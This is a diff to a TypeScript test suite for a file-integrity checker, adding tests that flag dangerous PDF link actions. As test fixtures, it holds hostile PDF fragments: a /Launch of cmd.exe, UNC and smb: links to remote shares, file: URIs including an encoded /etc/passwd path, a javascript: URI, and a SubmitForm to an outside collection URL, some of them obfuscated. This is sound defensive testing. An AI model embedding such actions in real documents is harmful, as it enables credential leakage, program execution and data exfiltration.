@@ -1,4 +1,5 @@
 import { crc32, deflateSync } from 'node:zlib';
+import { jpegImage } from '../../../../test/harness/images';
 import { MAX_PDF_INFLATED_BYTES, checkIntegrity, checkIntegrityOf } from './integrity';
 
 // ---------------------------------------------------------------------------------------------
@@ -96,33 +97,14 @@ describe('checkIntegrity: PNG', () => {
 });
 
 // ---------------------------------------------------------------------------------------------
-// JPEG: a baseline 1 × 1 greyscale image written by hand. One 8 × 8 block: DC difference of
-// category 0 (Huffman code '0'), then end-of-block (code '0'); the byte 0x3F pads with ones.
+// JPEG
 
 function segment(marker: number, payload: number[]): number[] {
   const length = payload.length + 2;
   return [0xff, marker, length >> 8, length & 0xff, ...payload];
 }
 
-function sof0(width: number, height: number): number[] {
-  return segment(0xc0, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0]);
-}
-
-const oneCodeTable = (tableClassAndId: number) => segment(0xc4, [tableClassAndId, 1, ...new Array<number>(15).fill(0), 0x00]);
-
-function jpeg(width = 1, height = 1, { eoi = true } = {}): Buffer {
-  return Buffer.from([
-    0xff, 0xd8,
-    ...segment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]), // JFIF APP0
-    ...segment(0xdb, [0, ...new Array<number>(64).fill(1)]),
-    ...sof0(width, height),
-    ...oneCodeTable(0x00),
-    ...oneCodeTable(0x10),
-    ...segment(0xda, [1, 1, 0x00, 0, 63, 0]),
-    0x3f,
-    ...(eoi ? [0xff, 0xd9] : []),
-  ]);
-}
+const jpeg = jpegImage;
 
 describe('checkIntegrity: JPEG', () => {
   it('passes a valid 1 × 1 baseline JPEG', () => {
@@ -332,6 +314,98 @@ describe('checkIntegrity: PDF', () => {
     const objects = Buffer.from('<< /JS (x) >>');
     const r = checkIntegrity(document('', [['<< /Filter /FlateDecode /Length 7 0 R >>\nstream\n', deflateSync(objects), '\nendstream'], ['42']]), 'application/pdf');
     expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['JS'] } });
+  });
+});
+
+describe('checkIntegrity: PDF actions', () => {
+  /** A page with a link annotation running `action`, the way a link is written (ISO 32000-2, 12.5.6.5). */
+  const linked = (action: string, extra: Part[][] = []) =>
+    document('', [['<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /F 4 /A ' + action + ' >>'], ...extra]);
+
+  it('fails a link that opens a file on a network share with /GoToR (the issue), naming the target', () => {
+    // In PDF syntax `\\\\` is one backslash: the target is \\198.51.100.7\share\x.pdf.
+    const unc = '(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)';
+    const r = checkIntegrity(linked(`<< /S /GoToR /F ${unc} /D [0 /Fit] >>`), 'application/pdf');
+    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['GoToR'] } });
+    const target = JSON.stringify('\\\\198.51.100.7\\share\\x.pdf');
+    expect(r.detail.reason).toContain(`/GoToR (opens another file (a path or network share) to ${target})`);
+  });
+
+  it('fails /GoToR behind an escaped name, in a file specification dictionary, and inside an object stream', () => {
+    const escaped = linked('<< /#53/GoT#6fR /F << /Type /Filespec /UF (//198.51.100.7/share/x.pdf) >> >>');
+    expect(checkIntegrity(escaped, 'application/pdf').detail.activeContent).toEqual(['GoToR']);
+    const hidden = Buffer.from('6 0 << /S /GoToR /F (\\\\\\\\evil\\\\s\\\\a.pdf) >>');
+    const objStm = document('', [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(hidden))]);
+    const r = checkIntegrity(objStm, 'application/pdf');
+    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['GoToR'] } });
+    expect(r.detail.reason).toMatch(/in a FlateDecode stream at offset \d+/);
+  });
+
+  it.each([
+    ['UNC path', '(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)', 'a link to a file or network share'],
+    ['file: URL', '(file:///C:/Windows/System32/calc.exe)', 'a link to a file or network share'],
+    ['file: URL as a hex string', '<66696c653a2f2f2f6574632f706173737764>', 'a link to a file or network share'],
+    ['smb: URL written with octal escapes', '(\\163mb://198.51.100.7/share)', 'a link to a file or network share'],
+    ['javascript: URL', '(javascript:alert\\(1\\))', 'a link that is not to a web or mail address'],
+  ])('fails a /URI link to a %s', (_name, target, feature) => {
+    const r = checkIntegrity(linked(`<< /S /URI /URI ${target} >>`), 'application/pdf');
+    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['URI'] } });
+    expect(r.detail.reason).toContain(feature);
+  });
+
+  it('warns about web and mail links and lists them for the reviewer', () => {
+    const web = 'https://find-and-update.company-information.service.gov.uk/';
+    const mail = 'mailto:help@example.com';
+    const links = linked(`<< /S /URI /URI (${web}) >>`, [[`<< /S /URI /URI (${mail}) >>`]]);
+    const r = checkIntegrity(links, 'application/pdf');
+    expect(r).toMatchObject({ result: 'warn', detail: { links: [web, mail], uninspectedStreams: 0 } });
+    expect(r.detail.reason).toMatch(/it links to 2 external addresses \(https:\/\/find-and-update/);
+  });
+
+  it('fails a /Launch action however its type is written, including one with only a /Win dictionary', () => {
+    const launch = linked('<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>');
+    const escaped = checkIntegrity(launch, 'application/pdf');
+    expect(escaped).toMatchObject({ result: 'fail', detail: { activeContent: ['Launch', 'Win'] } });
+    expect(escaped.detail.reason).toContain('to "cmd.exe"');
+    const indirectType = checkIntegrity(linked('<< /S 7 0 R /Win << /F (cmd.exe) >> >>'), 'application/pdf');
+    expect(indirectType).toMatchObject({ result: 'fail', detail: { activeContent: ['Win'] } });
+  });
+
+  // Every action type of ISO 32000-2 Table 201, with the decision of pdf-actions.ts.
+  it.each([
+    ['GoTo', '<< /S /GoTo /D [3 0 R /Fit] >>', 'pass'],
+    ['GoToDp', '<< /S /GoToDp /Dp 9 0 R >>', 'pass'],
+    ['Thread (this document)', '<< /S /Thread /D 0 >>', 'pass'],
+    ['Thread (an inline thread of this document)', '<< /S /Thread /D << /Type /Thread /F 9 0 R >> >>', 'pass'],
+    ['Named NextPage', '<< /S /Named /N /NextPage >>', 'pass'],
+    ['Hide', '<< /S /Hide /T (field) /H true >>', 'pass'],
+    ['ResetForm', '<< /S /ResetForm >>', 'pass'],
+    ['SetOCGState', '<< /S /SetOCGState /State [/OFF 9 0 R] >>', 'pass'],
+    ['Trans', '<< /S /Trans /Trans << /S /Dissolve >> >>', 'pass'],
+    ['GoTo3DView', '<< /S /GoTo3DView /TA 9 0 R /V /F >>', 'pass'],
+    ['URI', '<< /S /URI /URI (https://example.com/) >>', 'warn'],
+    ['GoToR', '<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>', 'fail'],
+    ['GoToE', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>', 'fail'],
+    ['Thread (another file)', '<< /S /Thread /F (other.pdf) /D 0 >>', 'fail'],
+    ['Named Print (a viewer menu command)', '<< /S /Named /N /Print >>', 'fail'],
+    ['Launch', '<< /S /Launch /F (calc.exe) >>', 'fail'],
+    ['Sound', '<< /S /Sound /Sound 9 0 R >>', 'fail'],
+    ['Movie', '<< /S /Movie /T (clip) >>', 'fail'],
+    ['SubmitForm', '<< /S /SubmitForm /F << /FS /URL /F (https://198.51.100.7/collect) >> >>', 'fail'],
+    ['ImportData', '<< /S /ImportData /F (data.fdf) >>', 'fail'],
+    ['JavaScript', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>', 'fail'],
+    ['Rendition', '<< /S /Rendition /OP 0 /AN 9 0 R >>', 'fail'],
+    ['RichMediaExecute', '<< /S /RichMediaExecute /TA 9 0 R /CMD << >> >>', 'fail'],
+  ])('judges a link running %s: %s', (_name, action, result) => {
+    const r = checkIntegrity(linked(action), 'application/pdf');
+    expect(r.result).toBe(result);
+    if (result === 'pass') expect(r.detail.navigationActions).toBeGreaterThanOrEqual(1);
+  });
+
+  it('does not take page-label and structure styles (/S /D, /S /P) for actions', () => {
+    const labelled = document('/PageLabels << /Nums [0 << /S /D >>] >> ', [['<< /Type /StructElem /S /P >>']]);
+    const r = checkIntegrity(labelled, 'application/pdf');
+    expect(r).toMatchObject({ result: 'pass', detail: { navigationActions: 0 } });
   });
 });
 
